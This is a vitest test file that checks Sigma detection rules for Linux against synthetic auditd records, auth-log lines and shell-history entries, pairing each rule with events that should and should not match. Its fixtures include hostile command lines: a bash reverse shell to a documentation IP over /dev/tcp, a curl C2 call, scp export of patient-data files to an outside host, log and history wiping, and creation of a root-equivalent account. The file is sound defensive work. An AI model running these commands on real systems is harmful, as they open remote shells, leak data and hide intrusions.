/**
 * Rules of the community's Linux folder (read from beside the checkout, never copied) against audit
 * records as auditd writes them and auth lines as Debian (auth.log) and RHEL (secure) write them:
 * lines that must match and near misses that must not.
 */
import {describe, expect, it} from 'vitest'

import {matches} from '../../../src/analyze/sigma/run.js'
import {evidenceFromCaseEvent} from '../../../src/analyze/sigma/case-event.js'
import type {SigmaEvidence} from '../../../src/analyze/sigma/evidence.js'
import {peerData} from '../../helpers/peer-data.js'
import {audit, authRows, caseEvent, referenceRule} from './helpers.js'

const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase()
let serial = 5000
/** One exec event as auditd (RAW format) writes it: SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE. */
function exec(argv: readonly string[], opts: {euid?: number; key?: string; exe?: string} = {}): SigmaEvidence {
  const s = serial++
  const head = `msg=audit(1772531701.${String(s % 1000).padStart(3, '0')}:${s}):`
  const exe = opts.exe ?? `/usr/bin/${argv[0]}`
  const arg = (a: string) => (/[\s"]/.test(a) ? hex(a) : `"${a}"`)
  const text = [
    `type=SYSCALL ${head} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8e0 a1=55d0c8f0 a2=55d0c900 a3=8 items=2 ppid=2201 pid=2250 auid=1000 uid=0 gid=0 euid=${opts.euid ?? 0} suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${argv[0]?.slice(0, 15)}" exe="${exe}" subj=unconfined key=${opts.key === undefined ? '(null)' : `"${opts.key}"`}`,
    `type=EXECVE ${head} argc=${argv.length} ${argv.map((a, i) => `a${i}=${arg(a)}`).join(' ')}`,
    `type=CWD ${head} cwd="/root"`,
    `type=PATH ${head} item=0 name="${exe}" inode=1049 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `type=PROCTITLE ${head} proctitle=${hex(argv.join('\u0000'))}`,
    `type=EOE ${head}`,
  ].join('\n')
  return audit(text)[0] as SigmaEvidence
}

/** A file event: SYSCALL (openat/creat) and its PATH records. */
function fileEvent(syscall: number, names: ReadonlyArray<[string, string]>, exe = '/usr/bin/vim'): SigmaEvidence {
  const s = serial++
  const head = `msg=audit(1772531702.000:${s}):`
  const text = [
    `type=SYSCALL ${head} arch=c000003e syscall=${syscall} success=yes exit=3 a0=ffffff9c a1=7ffd2 a2=241 a3=1b6 items=${names.length} ppid=2201 pid=2260 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="vim" exe="${exe}" key="phi_access"`,
    `type=CWD ${head} cwd="/root"`,
    ...names.map(([name, nametype], i) => `type=PATH ${head} item=${i} name="${name}" inode=${2000 + i} dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=${nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`),
    `type=EOE ${head}`,
  ].join('\n')
  return audit(text)[0] as SigmaEvidence
}

const auth = (lines: readonly string[]) => authRows(lines).map((row) => evidenceFromCaseEvent(row) as SigmaEvidence)
const shell = (command: string) => evidenceFromCaseEvent(caseEvent({data: JSON.stringify({command, n: 1, path: '/root/.bash_history', shell: 'bash', user: 'root'}), ref: 'shell-history/history.jsonl:1', source: 'shell-history', user: 'root'})) as SigmaEvidence

async function check(file: string, hits: readonly SigmaEvidence[], misses: readonly SigmaEvidence[]): Promise<void> {
  const rule = await referenceRule(file)
  for (const e of hits) expect(matches(rule, e), `${rule.title} should match ${e.docs.map((d) => d.text).join(' / ')}`).toBe(true)
  for (const e of misses) expect(matches(rule, e), `${rule.title} should not match ${e.docs.map((d) => d.text).join(' / ')}`).toBe(false)
}

describe('auditd rules against audit records', () => {
  it('System Owner or User Discovery: a real whoami exec (ENRICHED log) matches, ls does not', async () => {
    await check('auditd/execve/lnx_auditd_user_discovery.yml', [audit(peerData('audit', 'laurel', 'record-execve.txt'))[0] as SigmaEvidence, exec(['id'])], [exec(['ls', '-l']), exec(['identify'])])
  })

  it('Remove Immutable File Attribute: chattr -i matches, chattr +i does not', async () => {
    await check('auditd/execve/lnx_auditd_chattr_immutable_removal.yml', [exec(['chattr', '-i', '/etc/passwd']), exec(['chattr', '-ia', '/var/log/auth.log'])], [exec(['chattr', '+i', '/etc/passwd']), exec(['lsattr', '-i'])])
  })

  it('Data Compressed: tar -c with hex-encoded arguments matches, tar -x does not', async () => {
    await check('auditd/execve/lnx_auditd_data_compressed.yml', [exec(['tar', '-czf', '/tmp/patient records.tgz', '/srv/phi']), exec(['zip', '-r', 'x.zip', '/srv/phi']), exec(['gzip', '-k', 'a.csv'])], [exec(['tar', '-xzf', '/tmp/a.tgz']), exec(['gzip', 'a.csv'])])
  })

  it('Hidden Files and Directories (|re): mkdir of a dot folder matches, of ../ does not', async () => {
    await check('auditd/execve/lnx_auditd_hidden_files_directories.yml', [exec(['mkdir', '/tmp/.x']), exec(['vim', '-n', '.bashrc'])], [exec(['mkdir', '../x']), exec(['mkdir', '/tmp/x']), exec(['cat', '/tmp/.x'])])
  })

  it('Binary Padding (keywords, |all, and not): dd if= without of= matches; with of= it does not', async () => {
    await check('auditd/execve/lnx_auditd_binary_padding.yml', [exec(['dd', 'if=/dev/zero', 'bs=1', 'count=1']), exec(['truncate', '-s', '+1M', '/usr/bin/x'])], [exec(['dd', 'if=/dev/zero', 'of=/tmp/x']), exec(['ls', '-s'])])
  })

  it('Webshell Remote Command Execution: execve with euid 33 in a RAW log (syscall number) matches, euid 0 does not', async () => {
    await check('auditd/syscall/lnx_auditd_web_rce.yml', [exec(['sh', '-c', 'id'], {euid: 33, exe: '/bin/dash'})], [exec(['sh', '-c', 'id'], {euid: 0, exe: '/bin/dash'})])
  })

  it('Creation Of An User Account: a real RHEL ADD_USER record matches; a useradd SYSCALL matches; an ADD_GROUP does not', async () => {
    const rhel = audit(peerData('audit', 'go-libaudit', 'auparse_testdata_audit-rhel7.log'), 'audit/user_changes.raw')
    const addUser = rhel.filter((e) => e.docs.some((d) => d.fields.type === 'ADD_USER'))
    expect(addUser).toHaveLength(1)
    const addGroup = audit("type=ADD_GROUP msg=audit(1451781471.602:194894): pid=1321 uid=0 auid=1000 ses=1 msg='op=add-group acct=\"frodo\" exe=\"/usr/sbin/groupadd\" hostname=? addr=? terminal=pts/0 res=success'")
    await check('auditd/syscall/lnx_auditd_create_account.yml', [...addUser, exec(['useradd', '-m', 'eve'], {exe: '/usr/sbin/useradd'})], [...addGroup, exec(['usermod', '-aG', 'sudo', 'eve'], {exe: '/usr/sbin/usermod'})])
  })

  it('Modification of ld.so.preload and Systemd Service Creation read PATH records (name, nametype)', async () => {
    await check('auditd/path/lnx_auditd_ld_so_preload_mod.yml', [fileEvent(257, [['/etc/', 'PARENT'], ['/etc/ld.so.preload', 'NORMAL']])], [fileEvent(257, [['/etc/', 'PARENT'], ['/etc/ld.so.conf', 'NORMAL']])])
    await check('auditd/path/lnx_auditd_systemd_service_creation.yml',
      [fileEvent(257, [['/etc/systemd/system/', 'PARENT'], ['/etc/systemd/system/backup.service', 'CREATE']]), fileEvent(85, [['/home/bob/.config/systemd/user/x.service', 'CREATE']])],
      [fileEvent(257, [['/etc/systemd/system/', 'PARENT'], ['/etc/systemd/system/backup.service', 'NORMAL']]), fileEvent(257, [['/tmp/a.service', 'CREATE']])])
  })

  it('Audio Capture: memfd_create (RAW syscall 319) by ecasound matches; by another program it does not', async () => {
    const memfd = (exe: string) => audit(`type=SYSCALL msg=audit(1772531703.000:${serial++}): arch=c000003e syscall=319 success=yes exit=4 a0=7f1 a1=1 a2=0 a3=0 items=0 ppid=1 pid=3 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="x" exe="${exe}" key=(null)`)[0] as SigmaEvidence
    await check('auditd/lnx_auditd_audio_capture.yml', [memfd('/usr/bin/ecasound'), exec(['arecord', '-vv', '-fdat', 'out.wav'])], [memfd('/usr/bin/firefox'), exec(['arecord', '-l'])])
  })

  it('Disable System Firewall: a SERVICE_STOP of firewalld matches; of cron it does not', async () => {
    const stop = (unit: string) => audit(`type=SERVICE_STOP msg=audit(1772531704.000:${serial++}): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'UID="root" AUID="unset"`)[0] as SigmaEvidence
    await check('auditd/service_stop/lnx_auditd_disable_system_firewall.yml', [stop('firewalld'), stop('ufw')], [stop('cron'), stop('firewalld-helper')])
  })

  it('Suspicious C2 Activities: an event keyed susp_activity matches; another key does not', async () => {
    await check('auditd/lnx_auditd_susp_c2_commands.yml', [exec(['curl', 'http://203.0.113.9/x'], {key: 'susp_activity'})], [exec(['curl', 'http://203.0.113.9/x'], {key: 'phi_access'})])
  })
})

describe('builtin rules against auth lines and command lines', () => {
  it('Privileged User Has Been Created: useradd with UID=0 (Debian stamp) matches; a real useradd line of a RHEL secure log (from filebeat test data) does not', async () => {
    const beats = peerData('beats-auth', 'test.log').split('\n').find((l) => l.includes('useradd') && l.includes('new user')) as string
    await check('builtin/lnx_privileged_user_creation.yml',
      auth(['Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash', '2026-03-03T10:12:00.123456+00:00 db1 useradd[991]: new user: name=ops, UID=1001, GID=27, home=/home/ops, shell=/bin/bash']),
      auth([beats, 'Dec 21 17:24:40 testserver useradd[1337]: new user: name=butter3, UID=1000, GID=1000, home=/home/butter3, shell=/bin/bash']))
  })

  it('Suspicious OpenSSH Daemon Error reads only sshd lines (Debian and RHEL stamps)', async () => {
    await check('builtin/sshd/lnx_sshd_susp_ssh.yml',
      auth(['Mar  3 10:15:01 web1 sshd[2231]: Corrupted MAC on input. [preauth]', '2026-03-03T10:15:02.001+00:00 db1 sshd[812]: fatal: buffer_get_string: bad string']),
      auth(['Mar  3 10:15:01 web1 sudo[2232]: pam_unix(sudo:session): Corrupted MAC on input', 'Mar  3 10:15:03 web1 sshd[2231]: Accepted publickey for alice from 203.0.113.7 port 50522 ssh2: ED25519 SHA256:abc']))
  })

  it('Modifying Crontab reads only cron lines', async () => {
    await check('builtin/cron/lnx_cron_crontab_file_modification.yml',
      auth(['Mar  3 10:20:00 web1 crontab[4123]: (root) REPLACE (root)']),
      auth(['Mar  3 10:21:01 web1 CRON[4125]: (root) CMD (run-parts /etc/cron.hourly)', 'Mar  3 10:20:00 web1 sshd[4126]: Invalid user REPLACE from 203.0.113.7 port 50522']))
  })

  it('Suspicious Use of /dev/tcp in a sudo COMMAND line matches; a plain sudo does not', async () => {
    await check('builtin/lnx_susp_dev_tcp.yml',
      auth(['Mar  3 10:30:11 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
      auth(['Mar  3 10:30:12 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx']))
  })

  it('Commands to Clear or Remove the Syslog (and not): rm -f /var/log/syslog matches; rotated files do not', async () => {
    await check('builtin/lnx_clear_syslog.yml',
      auth(['Mar  3 10:31:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/rm -f /var/log/syslog']),
      auth(['Mar  3 10:31:05 web1 sudo:    alice : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/rm -f /var/log/syslog.2.gz']))
  })

  it('rules without a service also read shell-history commands and audit EXECVE arguments', async () => {
    await check('builtin/lnx_file_copy.yml', [shell('scp /srv/phi/export.csv bob@203.0.113.9:/tmp/'), exec(['rsync', '-a', '/srv/phi/', 'backup:/x'])], [shell('scp --help'), shell('cp a b')])
    // A real perl reverse shell, its script hex-encoded in the EXECVE record.
    await check('builtin/lnx_shell_susp_rev_shells.yml', [audit(peerData('audit', 'laurel', 'record-perl-reverse-shell.txt'))[0] as SigmaEvidence], [exec(['perl', '-e', 'print 1'])])
    await check('builtin/lnx_shell_clear_cmd_history.yml', [shell('history -c')], [shell('history | tail')])
    // A service-specific rule does not read command lines.
    await check('builtin/sshd/lnx_sshd_susp_ssh.yml', [], [shell('echo Corrupted MAC on input')])
  })
})
